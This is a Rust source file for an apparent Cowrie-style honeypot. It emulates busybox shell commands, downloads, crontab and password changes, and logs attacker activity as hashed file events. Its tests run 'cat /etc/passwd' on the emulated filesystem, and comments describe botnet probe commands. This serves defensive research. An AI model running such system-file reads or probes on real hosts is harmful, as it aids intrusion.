//! Emulated commands ("known" commands in Cowrie's terminology).
//!
//! Each builtin receives a [`Ctx`] with mutable access to the session's VFS,
//! working directory, fetcher, and event log, plus its borrowed argv
//! ([`Words`] into the line arena) and stdin text, and appends the stdout it
//! would print to the caller's output buffer. Commands not in the table make
//! [`run`] return `false`, which the interpreter records as an *unknown*
//! command — that known/unknown distinction is part of the honeypot's logged
//! data model.
//!
//! Hot-path discipline: builtins never allocate in steady state for the
//! common sysinfo/file-read commands — formatted output goes straight into
//! `out`, path resolution reuses [`PathScratch`] buffers. Rare mutating
//! commands (cp, dd, crontab, downloads) may allocate for owned event
//! payloads; that cost is per file event, not per command.

use std::fmt::Write as _;

use hf_hash::{Digest, Sha256};

use crate::interp::{FileEvent, FileOp, RemoteFetcher};
use crate::lexer::Words;
use crate::profile::SystemProfile;
use crate::uri;
use crate::vfs::{resolve_path_into, Vfs};

/// Execution context handed to builtins.
pub struct Ctx<'a> {
    /// The session filesystem.
    pub vfs: &'a mut Vfs,
    /// Current working directory (mutable: `cd` changes it).
    pub cwd: &'a mut String,
    /// Machine identity for sysinfo output.
    pub profile: &'a SystemProfile,
    /// Remote body supplier for transfer tools.
    pub fetcher: &'a mut dyn RemoteFetcher,
    /// File-event sink (create/modify with hash).
    pub file_events: &'a mut Vec<FileEvent>,
    /// Completed downloads sink: (uri, body hash).
    pub downloads: &'a mut Vec<(String, Digest)>,
    /// Set to true by `exit`/`logout`.
    pub exited: &'a mut bool,
}

impl Ctx<'_> {
    /// Write a file and record the event. `known_digest` short-circuits
    /// hashing when the caller already knows the content hash (downloads with
    /// a fetcher digest hint); the write truncates, so the file's content
    /// equals `content` and hashing `content` directly is equivalent to the
    /// read-back hash.
    fn write_recorded(
        &mut self,
        abs: &str,
        content: &[u8],
        mode: u32,
        known_digest: Option<Digest>,
    ) {
        if abs == "/dev/null" {
            return;
        }
        if let Ok(existed) = self.vfs.write_file(abs, content, mode) {
            let hash = known_digest.unwrap_or_else(|| Sha256::digest(content));
            self.file_events.push(FileEvent {
                path: abs.to_string(),
                op: if existed {
                    FileOp::Modified
                } else {
                    FileOp::Created
                },
                size: content.len(),
                sha256: hash,
            });
        }
    }
}

/// Reusable path/URI resolution buffers, pooled with the session scratch so
/// steady-state builtins never allocate for path handling.
#[derive(Debug, Default)]
pub struct PathScratch {
    pub(crate) a: String,
    pub(crate) b: String,
    pub(crate) uri: String,
}

/// Run a builtin, appending its stdout to `out`; `false` means the command is
/// not emulated (the caller handles `sh -c` and unknown commands).
pub fn run(
    ctx: &mut Ctx,
    argv: Words<'_>,
    stdin: &str,
    out: &mut String,
    paths: &mut PathScratch,
) -> bool {
    let name = argv.first().unwrap_or("");
    let args = argv.tail(1);
    match name {
        "busybox" if !args.is_empty() => {
            // `busybox CMD args...` dispatches to CMD.
            if !run(ctx, args, stdin, out, paths) {
                let _ = writeln!(out, "{}: applet not found", args.first().unwrap());
            }
        }
        "busybox" => out.push_str(
            "BusyBox v1.31.1 (2020-02-25 13:33:41 UTC) multi-call binary.\nUsage: busybox [function [arguments]...]\n",
        ),
        "echo" => echo(args, out),
        "cat" => cat(ctx, args, stdin, out, paths),
        "uname" => uname(ctx.profile, args, out),
        "free" => free(ctx.profile, args, out),
        "w" | "who" => w_output(ctx.profile, out),
        "whoami" => out.push_str("root\n"),
        "id" => out.push_str("uid=0(root) gid=0(root) groups=0(root)\n"),
        "uptime" => out.push_str(
            " 11:02:35 up 42 days,  3:14,  1 user,  load average: 0.08, 0.03, 0.01\n",
        ),
        "ps" => ps_output(args, out),
        "nproc" => {
            let _ = writeln!(out, "{}", ctx.profile.cpu_cores);
        }
        "lscpu" => {
            let _ = write!(
                out,
                "Architecture:        {}\nCPU(s):              {}\nModel name:          {}\n",
                ctx.profile.arch, ctx.profile.cpu_cores, ctx.profile.cpu_model
            );
        }
        "hostname" => {
            let _ = writeln!(out, "{}", ctx.profile.hostname);
        }
        "ifconfig" => out.push_str(
            "eth0      Link encap:Ethernet  HWaddr 52:54:00:12:34:56\n          inet addr:192.168.1.104  Bcast:192.168.1.255  Mask:255.255.255.0\n          UP BROADCAST RUNNING MULTICAST  MTU:1500  Metric:1\n",
        ),
        "pwd" => {
            let _ = writeln!(out, "{}", ctx.cwd);
        }
        "cd" => cd(ctx, args, out, paths),
        "ls" => ls(ctx, args, out, paths),
        "mkdir" => mkdir(ctx, args, out, paths),
        "rm" | "rmdir" => rm(ctx, args, out, paths),
        "cp" => cp(ctx, args, out, paths),
        "mv" => mv(ctx, args, out, paths),
        "touch" => touch(ctx, args, paths),
        "chmod" => chmod(ctx, args, out, paths),
        "head" => head_tail(ctx, args, stdin, true, out, paths),
        "tail" => head_tail(ctx, args, stdin, false, out, paths),
        "grep" => grep(ctx, args, stdin, out, paths),
        "wc" => wc(ctx, args, stdin, out, paths),
        "dd" => dd(ctx, args, stdin, out, paths),
        "df" => out.push_str(
            "Filesystem     1K-blocks    Used Available Use% Mounted on\n/dev/root        7158264 1683176   5103652  25% /\ntmpfs             512000       0    512000   0% /tmp\n",
        ),
        "mount" => out.push_str(
            "/dev/root on / type ext4 (rw,relatime)\nproc on /proc type proc (rw)\ntmpfs on /tmp type tmpfs (rw)\n",
        ),
        "top" => {
            let _ = write!(
                out,
                "top - 11:02:35 up 42 days,  3:14,  1 user,  load average: 0.08, 0.03, 0.01\nTasks:  34 total,   1 running,  33 sleeping\nMem: {}k total\n  PID USER      PR  NI    VIRT    RES  %CPU %MEM     TIME+ COMMAND\n    1 root      20   0    2344   1552   0.0  0.2   0:01.02 init\n",
                ctx.profile.mem_total_mb * 1024
            );
        }
        "history" => {}
        "which" => which(ctx, args, out, paths),
        "export" | "set" | "unset" | "alias" => {}
        "sleep" | "sync" => {}
        "kill" | "killall" | "pkill" => {}
        "su" => {}
        "passwd" => passwd(ctx, args, out, paths),
        "chpasswd" => chpasswd(ctx, stdin, paths),
        "crontab" => crontab(ctx, args, stdin, out, paths),
        "wget" => wget(ctx, args, out, paths),
        "curl" => curl(ctx, args, out, paths),
        "tftp" => tftp(ctx, argv, out, paths),
        "ftpget" => ftpget(ctx, argv, out, paths),
        "scp" => {}
        "ping" => ping(args, out),
        "iptables" | "service" | "systemctl" | "ulimit" => {}
        "exit" | "logout" => {
            *ctx.exited = true;
        }
        "yes" => out.push_str("y\ny\ny\n"),
        "awk" | "sed" | "tr" | "cut" | "sort" | "uniq" | "xargs" => {
            // Text tools: pass stdin through — good enough for the scripts
            // intruders chain them into.
            out.push_str(stdin);
        }
        _ => return false,
    }
    true
}

/// Append bytes as UTF-8, lossily (replacement chars) for invalid sequences —
/// the borrowed-input equivalent of `String::from_utf8_lossy(..).into_owned()`.
pub(crate) fn push_utf8_lossy(dst: &mut String, bytes: &[u8]) {
    match std::str::from_utf8(bytes) {
        Ok(s) => dst.push_str(s),
        Err(_) => dst.push_str(&String::from_utf8_lossy(bytes)),
    }
}

fn abs_into<'p>(cwd: &str, rel: &str, slot: &'p mut String) -> &'p str {
    resolve_path_into(cwd, rel, slot);
    slot
}

/// First value following either flag (busybox-style `-O file` / `-o file`).
fn value_of_either<'a>(args: Words<'a>, f1: &str, f2: &str) -> Option<&'a str> {
    let mut idx = 0;
    while let Some(w) = args.get(idx) {
        if w == f1 || w == f2 {
            return args.get(idx + 1);
        }
        idx += 1;
    }
    None
}

// ---- sysinfo ---------------------------------------------------------------

fn uname(p: &SystemProfile, args: Words<'_>, out: &mut String) {
    let Some(first) = args.first() else {
        out.push_str("Linux\n");
        return;
    };
    match first {
        "-a" | "--all" => {
            // Streamed rather than via `p.uname_all()`: the temporary String
            // would be the hot path's only steady-state allocation.
            let _ = writeln!(
                out,
                "Linux {} {} #1 SMP {} {} GNU/Linux",
                p.hostname, p.kernel_version, p.build_date, p.arch
            );
        }
        "-r" => {
            let _ = writeln!(out, "{}", p.kernel_version);
        }
        "-m" | "-p" => {
            let _ = writeln!(out, "{}", p.arch);
        }
        "-n" => {
            let _ = writeln!(out, "{}", p.hostname);
        }
        _ => out.push_str("Linux\n"),
    }
}

fn free(p: &SystemProfile, args: Words<'_>, out: &mut String) {
    let (total, unit) = if args.contains("-m") {
        (p.mem_total_mb, "M")
    } else {
        (p.mem_total_mb * 1024, "k")
    };
    let used = total * 2 / 5;
    let free = total - used;
    let _ = write!(
        out,
        "              total        used        free      shared  buff/cache   available ({unit})\nMem:     {total:>10}  {used:>10}  {free:>10}           0           0  {free:>10}\nSwap:             0           0           0\n"
    );
}

fn w_output(p: &SystemProfile, out: &mut String) {
    let _ = write!(
        out,
        " 11:02:35 up 42 days,  3:14,  1 user,  load average: 0.08, 0.03, 0.01\nUSER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\nroot     pts/0    {}       11:02    0.00s  0.00s  0.00s w\n",
        p.hostname
    );
}

fn ps_output(args: Words<'_>, out: &mut String) {
    let wide = args.iter().any(|a| a.contains('a') || a.contains('x'));
    out.push_str("  PID TTY          TIME CMD\n    1 ?        00:00:01 init\n");
    if wide {
        out.push_str("  402 ?        00:00:00 telnetd\n  403 ?        00:00:00 dropbear\n");
    }
    out.push_str(" 1432 pts/0    00:00:00 sh\n 1448 pts/0    00:00:00 ps\n");
}

fn ping(args: Words<'_>, out: &mut String) {
    let host = args
        .iter()
        .find(|a| !a.starts_with('-'))
        .unwrap_or("127.0.0.1");
    let _ = write!(
        out,
        "PING {host} ({host}): 56 data bytes\n64 bytes from {host}: seq=0 ttl=64 time=0.4 ms\n64 bytes from {host}: seq=1 ttl=64 time=0.4 ms\n--- {host} ping statistics ---\n2 packets transmitted, 2 packets received, 0% packet loss\n"
    );
}

// ---- text/file ops ----------------------------------------------------------

fn echo(args: Words<'_>, out: &mut String) {
    // Leading -n / -e flags (each its own word, any order, repeatable).
    let mut idx = 0;
    let mut newline = true;
    let mut interpret = false;
    while let Some(a) = args.get(idx) {
        match a {
            "-n" => {
                newline = false;
                idx += 1;
            }
            "-e" => {
                interpret = true;
                idx += 1;
            }
            _ => break,
        }
    }
    let mut first = true;
    for w in args.tail(idx).iter() {
        if !first {
            out.push(' ');
        }
        first = false;
        if interpret {
            // Streaming \n/\t/\r expansion. Escapes cannot span the joining
            // spaces, so per-word scanning matches the joined-then-replaced
            // behaviour exactly.
            let b = w.as_bytes();
            let mut i = 0;
            while i < b.len() {
                if b[i] == b'\\' && i + 1 < b.len() {
                    let rep = match b[i + 1] {
                        b'n' => Some('\n'),
                        b't' => Some('\t'),
                        b'r' => Some('\r'),
                        _ => None,
                    };
                    if let Some(c) = rep {
                        out.push(c);
                        i += 2;
                        continue;
                    }
                }
                // Copy one whole UTF-8 char.
                let ch_len = utf8_len(b[i]);
                out.push_str(&w[i..i + ch_len]);
                i += ch_len;
            }
        } else {
            out.push_str(w);
        }
    }
    if newline {
        out.push('\n');
    }
}

fn utf8_len(first_byte: u8) -> usize {
    match first_byte {
        0x00..=0x7f => 1,
        0xc0..=0xdf => 2,
        0xe0..=0xef => 3,
        _ => 4,
    }
}

fn cat(ctx: &mut Ctx, args: Words<'_>, stdin: &str, out: &mut String, paths: &mut PathScratch) {
    let mut any = false;
    for f in args.iter().filter(|a| !a.starts_with('-')) {
        any = true;
        let abs = abs_into(ctx.cwd, f, &mut paths.a);
        match ctx.vfs.read_file(abs) {
            Ok(c) => push_utf8_lossy(out, c),
            Err(e) => {
                let _ = writeln!(out, "cat: {e}");
            }
        }
    }
    if !any {
        out.push_str(stdin);
    }
}

fn cd(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let target = args.first().unwrap_or("/root");
    let abs = abs_into(ctx.cwd, target, &mut paths.a);
    if ctx.vfs.is_dir(abs) {
        ctx.cwd.clear();
        ctx.cwd.push_str(abs);
    } else {
        let _ = writeln!(out, "-bash: cd: {target}: No such file or directory");
    }
}

fn ls(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let long = args.iter().any(|a| a.starts_with('-') && a.contains('l'));
    let all = args.iter().any(|a| a.starts_with('-') && a.contains('a'));
    let target = args.iter().find(|a| !a.starts_with('-')).unwrap_or(".");
    let abs = abs_into(ctx.cwd, target, &mut paths.a);
    if !ctx.vfs.exists(abs) {
        let _ = writeln!(out, "ls: {target}: No such file or directory");
        return;
    }
    if !ctx.vfs.is_dir(abs) {
        let _ = writeln!(out, "{target}");
        return;
    }
    let vfs: &Vfs = ctx.vfs;
    let Ok(entries) = vfs.entries(abs) else {
        return;
    };
    let dots: &[&str] = if all { &[".", ".."] } else { &[] };
    let names = dots.iter().copied().chain(entries);
    if long {
        for n in names {
            paths.b.clear();
            let _ = write!(paths.b, "{}/{}", abs.trim_end_matches('/'), n);
            let is_dir = n == "." || n == ".." || vfs.is_dir(&paths.b);
            let mode = vfs.mode(&paths.b).unwrap_or(0o755);
            let size = vfs.size(&paths.b).unwrap_or(0);
            out.push(if is_dir { 'd' } else { '-' });
            push_mode(out, mode);
            let _ = writeln!(out, " 1 root root {size:>8} Jan  1 00:00 {n}");
        }
    } else {
        let start = out.len();
        for n in names {
            if out.len() > start {
                out.push_str("  ");
            }
            out.push_str(n);
        }
        if out.len() > start {
            out.push('\n');
        }
    }
}

fn push_mode(out: &mut String, mode: u32) {
    for shift in [6u32, 3, 0] {
        let bits = (mode >> shift) & 7;
        out.push(if bits & 4 != 0 { 'r' } else { '-' });
        out.push(if bits & 2 != 0 { 'w' } else { '-' });
        out.push(if bits & 1 != 0 { 'x' } else { '-' });
    }
}

fn mkdir(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let parents = args.contains("-p");
    for a in args.iter().filter(|a| !a.starts_with('-')) {
        let abs = abs_into(ctx.cwd, a, &mut paths.a);
        if !parents && ctx.vfs.exists(abs) {
            let _ = writeln!(out, "mkdir: can't create directory '{a}': File exists");
            continue;
        }
        let _ = ctx.vfs.mkdir_p(abs);
    }
}

fn rm(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let force = args.iter().any(|a| a.starts_with('-') && a.contains('f'));
    for a in args.iter().filter(|a| !a.starts_with('-')) {
        let abs = abs_into(ctx.cwd, a, &mut paths.a);
        if ctx.vfs.remove(abs).is_err() && !force {
            let _ = writeln!(out, "rm: can't remove '{a}': No such file or directory");
        }
    }
}

fn cp(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let mut pos = args.iter().filter(|a| !a.starts_with('-'));
    let (Some(from_rel), Some(to_rel)) = (pos.next(), pos.next()) else {
        out.push_str("cp: missing file operand\n");
        return;
    };
    resolve_path_into(ctx.cwd, from_rel, &mut paths.a);
    resolve_path_into(ctx.cwd, to_rel, &mut paths.b);
    let (from, to) = (&paths.a, &paths.b);
    match ctx.vfs.copy_file(from, to) {
        Ok(existed) => {
            let dest = if ctx.vfs.is_dir(to) {
                format!(
                    "{}/{}",
                    to.trim_end_matches('/'),
                    from.rsplit('/').next().unwrap()
                )
            } else {
                to.clone()
            };
            let hash = Sha256::digest(ctx.vfs.read_file(&dest).unwrap());
            let size = ctx.vfs.size(&dest).unwrap_or(0);
            ctx.file_events.push(FileEvent {
                path: dest,
                op: if existed {
                    FileOp::Modified
                } else {
                    FileOp::Created
                },
                size,
                sha256: hash,
            });
        }
        Err(e) => {
            let _ = writeln!(out, "cp: {e}");
        }
    }
}

fn mv(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let mark = out.len();
    cp(ctx, args, out, paths);
    if out.len() == mark {
        let from_rel = args
            .iter()
            .find(|a| !a.starts_with('-'))
            .expect("cp succeeded, so a source operand exists");
        let abs = abs_into(ctx.cwd, from_rel, &mut paths.a);
        let _ = ctx.vfs.remove(abs);
    } else {
        // Rebrand the error in place ("cp:" and "mv:" have equal length).
        let mut i = mark;
        while let Some(off) = out[i..].find("cp:") {
            let at = i + off;
            out.replace_range(at..at + 3, "mv:");
            i = at + 3;
        }
    }
}

fn touch(ctx: &mut Ctx, args: Words<'_>, paths: &mut PathScratch) {
    for a in args.iter().filter(|a| !a.starts_with('-')) {
        resolve_path_into(ctx.cwd, a, &mut paths.a);
        if !ctx.vfs.exists(&paths.a) {
            ctx.write_recorded(&paths.a, b"", 0o644, None);
        }
    }
}

fn chmod(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    // Positional args keep single-char "-" but drop flag words.
    let keep = |a: &str| !a.starts_with('-') || a.len() <= 1;
    if args.iter().filter(|a| keep(a)).count() < 2 {
        out.push_str("chmod: missing operand\n");
        return;
    }
    let mut pos = args.iter().filter(|a| keep(a));
    let mode = u32::from_str_radix(pos.next().unwrap(), 8).unwrap_or(0o755);
    for target in pos {
        let abs = abs_into(ctx.cwd, target, &mut paths.a);
        if ctx.vfs.chmod(abs, mode).is_err() {
            let _ = writeln!(out, "chmod: {target}: No such file or directory");
        }
    }
}

/// The text a text tool reads: its file operand's contents, decoded into
/// `paths.b`, or `stdin` without one. A file that cannot be read prints
/// `<tool>: <error>` and yields `None`.
fn operand_text<'a>(
    ctx: &mut Ctx,
    tool: &str,
    file: Option<&str>,
    stdin: &'a str,
    out: &mut String,
    paths: &'a mut PathScratch,
) -> Option<&'a str> {
    let Some(f) = file else {
        return Some(stdin);
    };
    resolve_path_into(ctx.cwd, f, &mut paths.a);
    match ctx.vfs.read_file(&paths.a) {
        Ok(c) => {
            paths.b.clear();
            push_utf8_lossy(&mut paths.b, c);
            Some(&paths.b)
        }
        Err(e) => {
            let _ = writeln!(out, "{tool}: {e}");
            None
        }
    }
}

/// Does a short-flag word (`-c`, `-vc`, not `--color`) carry `flag`?
fn has_flag(args: Words<'_>, flag: char) -> bool {
    args.iter().any(|a| {
        a.strip_prefix('-')
            .is_some_and(|f| !f.starts_with('-') && f.contains(flag))
    })
}

fn head_tail(
    ctx: &mut Ctx,
    args: Words<'_>,
    stdin: &str,
    head: bool,
    out: &mut String,
    paths: &mut PathScratch,
) {
    let mut n = 10usize;
    let mut file = None;
    let mut idx = 0;
    while let Some(a) = args.get(idx) {
        idx += 1;
        if a == "-n" {
            if let Some(v) = args.get(idx) {
                idx += 1;
                n = v.parse().unwrap_or(10);
            }
        } else if let Some(num) = a.strip_prefix('-') {
            if let Ok(v) = num.parse() {
                n = v;
            }
        } else {
            file = Some(a);
        }
    }
    let tool = if head { "head" } else { "tail" };
    let Some(text) = operand_text(ctx, tool, file, stdin, out, paths) else {
        return;
    };
    let count = if head { 0 } else { text.lines().count() };
    for line in text.lines().skip(count.saturating_sub(n)).take(n) {
        out.push_str(line);
        out.push('\n');
    }
}

/// `grep [-vc] PATTERN [FILE]`: the matching lines (with `-v`, the others),
/// or with `-c` how many there are.
fn grep(ctx: &mut Ctx, args: Words<'_>, stdin: &str, out: &mut String, paths: &mut PathScratch) {
    let mut pos = args.iter().filter(|a| !a.starts_with('-'));
    let Some(pattern) = pos.next() else {
        return;
    };
    let Some(text) = operand_text(ctx, "grep", pos.next(), stdin, out, paths) else {
        return;
    };
    let invert = has_flag(args, 'v');
    if has_flag(args, 'c') {
        let mut n = 0;
        grep_lines(text, pattern, invert, |_| n += 1);
        let _ = writeln!(out, "{n}");
    } else {
        grep_lines(text, pattern, invert, |line| {
            out.push_str(line);
            out.push('\n');
        });
    }
}

/// Hand `emit` each line of `text` that contains `pattern` (or, with
/// `invert`, does not), lines as `str::lines` splits them. One searcher
/// runs over the whole text; each match selects the line holding it, later
/// matches in that line are skipped, and the lines between matches hold
/// none. A match that starts inside a line but ends past it (through a
/// trailing `\r`, or a line break in the pattern) leaves no later match
/// inside that line either: the pattern has one length. The searcher finds
/// non-overlapping matches, and only a match that crosses a line break can
/// hide the first match of the next line, which needs a line break in the
/// pattern, which no line contains.
fn grep_lines<'t>(text: &'t str, pattern: &str, invert: bool, mut emit: impl FnMut(&'t str)) {
    let mut matches = text.match_indices(pattern).map(|(at, _)| at);
    let mut next_line = 0;
    while next_line < text.len() {
        let Some(at) = matches.find(|&at| at >= next_line) else {
            break;
        };
        let start = text[..at].rfind('\n').map_or(0, |i| i + 1).max(next_line);
        let end = text[at..].find('\n').map_or(text.len(), |i| at + i);
        let line = match text[start..end].strip_suffix('\r') {
            Some(stripped) if end < text.len() => stripped,
            _ => &text[start..end],
        };
        if invert {
            text[next_line..start].lines().for_each(&mut emit);
        }
        if (at + pattern.len() <= start + line.len()) != invert {
            emit(line);
        }
        next_line = end + 1;
    }
    if invert && next_line < text.len() {
        text[next_line..].lines().for_each(emit);
    }
}

/// `wc [-lwc] [FILE]`. Without flags it prints lines, words and bytes; the
/// flags select among them (alone or combined, in that fixed order), and
/// one selected count prints bare, as busybox does. Lines are newline
/// bytes, as busybox counts them; a file operand's name follows the counts.
fn wc(ctx: &mut Ctx, args: Words<'_>, stdin: &str, out: &mut String, paths: &mut PathScratch) {
    let file = args.iter().find(|a| !a.starts_with('-'));
    let Some(text) = operand_text(ctx, "wc", file, stdin, out, paths) else {
        return;
    };
    let (mut lines, mut words, mut bytes) = (
        has_flag(args, 'l'),
        has_flag(args, 'w'),
        has_flag(args, 'c'),
    );
    if !(lines || words || bytes) {
        (lines, words, bytes) = (true, true, true);
    }
    // Only the selected counts are computed.
    let counts = [
        lines.then(|| text.bytes().filter(|&b| b == b'\n').count()),
        words.then(|| text.split_whitespace().count()),
        bytes.then_some(text.len()),
    ];
    let mut selected = counts.into_iter().flatten();
    if usize::from(lines) + usize::from(words) + usize::from(bytes) == 1 {
        let _ = write!(out, "{}", selected.next().unwrap_or(0));
    } else {
        for n in selected {
            let _ = write!(out, "{n:>8}");
        }
    }
    if let Some(f) = file {
        let _ = write!(out, " {f}");
    }
    out.push('\n');
}

fn dd(ctx: &mut Ctx, args: Words<'_>, stdin: &str, out: &mut String, paths: &mut PathScratch) {
    let kv = |key: &str| args.iter().find_map(|a| a.strip_prefix(key));
    let input: Vec<u8> = match kv("if=") {
        Some(f) => {
            resolve_path_into(ctx.cwd, f, &mut paths.a);
            match ctx.vfs.read_file(&paths.a) {
                Ok(c) => c.to_vec(),
                Err(e) => {
                    let _ = writeln!(out, "dd: {e}");
                    return;
                }
            }
        }
        None => stdin.as_bytes().to_vec(),
    };
    // bs/count truncation, enough for the `dd bs=52 count=1` probes botnets use.
    let bs: usize = kv("bs=").and_then(|v| v.parse().ok()).unwrap_or(512);
    let count: Option<usize> = kv("count=").and_then(|v| v.parse().ok());
    let taken: Vec<u8> = match count {
        Some(c) => input.into_iter().take(bs * c).collect(),
        None => input,
    };
    if let Some(of) = kv("of=") {
        resolve_path_into(ctx.cwd, of, &mut paths.a);
        ctx.write_recorded(&paths.a, &taken, 0o644, None);
        let blocks = taken.len().div_ceil(bs.max(1));
        let _ = write!(out, "{blocks}+0 records in\n{blocks}+0 records out\n");
    } else {
        push_utf8_lossy(out, &taken);
    }
}

fn which(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    for a in args.iter().filter(|a| !a.starts_with('-')) {
        for dir in ["/bin", "/sbin", "/usr/bin", "/usr/sbin"] {
            paths.a.clear();
            paths.a.push_str(dir);
            paths.a.push('/');
            paths.a.push_str(a);
            if ctx.vfs.exists(&paths.a) {
                out.push_str(&paths.a);
                out.push('\n');
                break;
            }
        }
    }
}

// ---- accounts ---------------------------------------------------------------

fn passwd(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let user = args.iter().find(|a| !a.starts_with('-')).unwrap_or("root");
    // Changing a password rewrites /etc/shadow → recorded file event.
    paths.b.clear();
    let _ = writeln!(paths.b, "{user}:$6$rounds=5000$changed$:18113:0:99999:7:::");
    ctx.write_recorded("/etc/shadow", paths.b.as_bytes(), 0o600, None);
    let _ = writeln!(out, "passwd: password for {user} changed by root");
}

fn chpasswd(ctx: &mut Ctx, stdin: &str, paths: &mut PathScratch) {
    // Each `user:pass` line rewrites shadow; content depends on input so
    // campaigns using distinct passwords produce distinct hashes.
    paths.b.clear();
    for line in stdin.lines() {
        if let Some((user, pass)) = line.split_once(':') {
            let _ = writeln!(
                paths.b,
                "{user}:$6${}$:18113:0:99999:7:::",
                Sha256::digest(pass.as_bytes()).short()
            );
        }
    }
    if !paths.b.is_empty() {
        ctx.write_recorded("/etc/shadow", paths.b.as_bytes(), 0o600, None);
    }
}

fn crontab(ctx: &mut Ctx, args: Words<'_>, stdin: &str, out: &mut String, paths: &mut PathScratch) {
    if args.contains("-l") {
        out.push_str("no crontab for root\n");
        return;
    }
    if args.contains("-r") {
        let _ = ctx.vfs.remove("/var/spool/cron/root");
        return;
    }
    // `crontab FILE` or `crontab -` installs a crontab.
    let content: Vec<u8> = match args.iter().find(|a| !a.starts_with('-')) {
        Some(f) => {
            resolve_path_into(ctx.cwd, f, &mut paths.a);
            match ctx.vfs.read_file(&paths.a) {
                Ok(c) => c.to_vec(),
                Err(e) => {
                    let _ = writeln!(out, "crontab: {e}");
                    return;
                }
            }
        }
        None => stdin.as_bytes().to_vec(),
    };
    if !content.is_empty() {
        ctx.write_recorded("/var/spool/cron/root", &content, 0o600, None);
    }
}

// ---- transfer tools ----------------------------------------------------------

fn download_to(ctx: &mut Ctx, uri: &str, dest_rel: &str, abs: &mut String) -> Result<usize, ()> {
    let body = ctx.fetcher.fetch(uri).ok_or(())?;
    let digest = ctx
        .fetcher
        .digest_hint(uri)
        .unwrap_or_else(|| Sha256::digest(&body));
    ctx.downloads.push((uri.to_string(), digest));
    resolve_path_into(ctx.cwd, dest_rel, abs);
    let size = body.len();
    ctx.write_recorded(abs, &body, 0o644, Some(digest));
    Ok(size)
}

fn basename_of_uri(uri: &str) -> &str {
    let tail = uri.rsplit('/').next().unwrap_or("index.html");
    if tail.is_empty() || tail.contains("://") {
        "index.html"
    } else {
        tail
    }
}

fn wget(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let Some(url) = args.iter().find(|a| a.contains("://")) else {
        out.push_str("wget: missing URL\n");
        return;
    };
    let dest = value_of_either(args, "-O", "-o").unwrap_or_else(|| basename_of_uri(url));
    match download_to(ctx, url, dest, &mut paths.a) {
        Ok(size) => {
            let _ = write!(
                out,
                "Connecting to {url}\n{dest}           100% |*******************************| {size}  0:00:00 ETA\n'{dest}' saved\n"
            );
        }
        Err(()) => {
            let _ = write!(
                out,
                "wget: can't connect to remote host: Connection refused\nwget: download failed: {url}\n"
            );
        }
    }
}

fn curl(ctx: &mut Ctx, args: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let Some(url) = args.iter().find(|a| a.contains("://")) else {
        out.push_str("curl: no URL specified!\n");
        return;
    };
    let to_file = args.contains("-O") || value_of_either(args, "-o", "-o").is_some();
    if to_file {
        let dest = value_of_either(args, "-o", "-o").unwrap_or_else(|| basename_of_uri(url));
        match download_to(ctx, url, dest, &mut paths.a) {
            Ok(_) => {}
            Err(()) => {
                let _ = write!(
                    out,
                    "curl: (7) Failed to connect to host: Connection refused\ncurl: download failed: {url}\n"
                );
            }
        }
    } else {
        // Body to stdout; still a download event (hash of the body).
        match ctx.fetcher.fetch(url) {
            Some(body) => {
                let digest = ctx
                    .fetcher
                    .digest_hint(url)
                    .unwrap_or_else(|| Sha256::digest(&body));
                ctx.downloads.push((url.to_string(), digest));
                push_utf8_lossy(out, &body);
            }
            None => out.push_str("curl: (7) Failed to connect to host: Connection refused\n"),
        }
    }
}

fn tftp(ctx: &mut Ctx, argv: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let Some(u) = uri::primary_uri_into(argv, &mut paths.uri) else {
        out.push_str("tftp: usage: tftp -g -r FILE HOST\n");
        return;
    };
    let dest = basename_of_uri(u);
    match download_to(ctx, u, dest, &mut paths.a) {
        Ok(_) => {}
        Err(()) => out.push_str("tftp: timeout\n"),
    }
}

fn ftpget(ctx: &mut Ctx, argv: Words<'_>, out: &mut String, paths: &mut PathScratch) {
    let Some(u) = uri::primary_uri_into(argv, &mut paths.uri) else {
        out.push_str("ftpget: usage: ftpget HOST LOCAL REMOTE\n");
        return;
    };
    // busybox ftpget: LOCAL is the 2nd positional arg.
    let dest = uri::ftpget_positional(argv, 1).unwrap_or_else(|| basename_of_uri(u));
    match download_to(ctx, u, dest, &mut paths.a) {
        Ok(_) => {}
        Err(()) => out.push_str("ftpget: can't connect to remote host: Connection refused\n"),
    }
}

#[cfg(test)]
mod tests {

    use super::grep_lines;
    use crate::interp::{ShellSession, SyntheticFetcher};
    use crate::profile::SystemProfile;

    fn sh() -> ShellSession {
        ShellSession::new(SystemProfile::default(), Box::new(SyntheticFetcher))
    }

    #[test]
    fn echo_flags() {
        let mut s = sh();
        assert_eq!(s.execute("echo hello").rendered, "hello\n");
        assert_eq!(s.execute("echo -n hi").rendered, "hi");
        assert_eq!(s.execute("echo -e 'a\\tb'").rendered, "a\tb\n");
    }

    #[test]
    fn cat_file_and_missing() {
        let mut s = sh();
        let out = s.execute("cat /etc/passwd").rendered;
        assert!(out.contains("root:x:0:0"));
        let miss = s.execute("cat /nope").rendered;
        assert!(miss.contains("No such file"));
    }

    #[test]
    fn uname_variants() {
        let mut s = sh();
        assert_eq!(s.execute("uname").rendered, "Linux\n");
        assert_eq!(s.execute("uname -m").rendered, "x86_64\n");
        assert_eq!(s.execute("uname -r").rendered, "4.14.67\n");
    }

    #[test]
    fn free_and_nproc() {
        let mut s = sh();
        assert!(s.execute("free -m").rendered.contains("Mem:"));
        assert_eq!(s.execute("nproc").rendered, "2\n");
    }

    #[test]
    fn cd_pwd_ls() {
        let mut s = sh();
        s.execute("cd /tmp");
        assert_eq!(s.execute("pwd").rendered, "/tmp\n");
        let err = s.execute("cd /no/dir").rendered;
        assert!(err.contains("No such file"));
        let ls = s.execute("ls /bin").rendered;
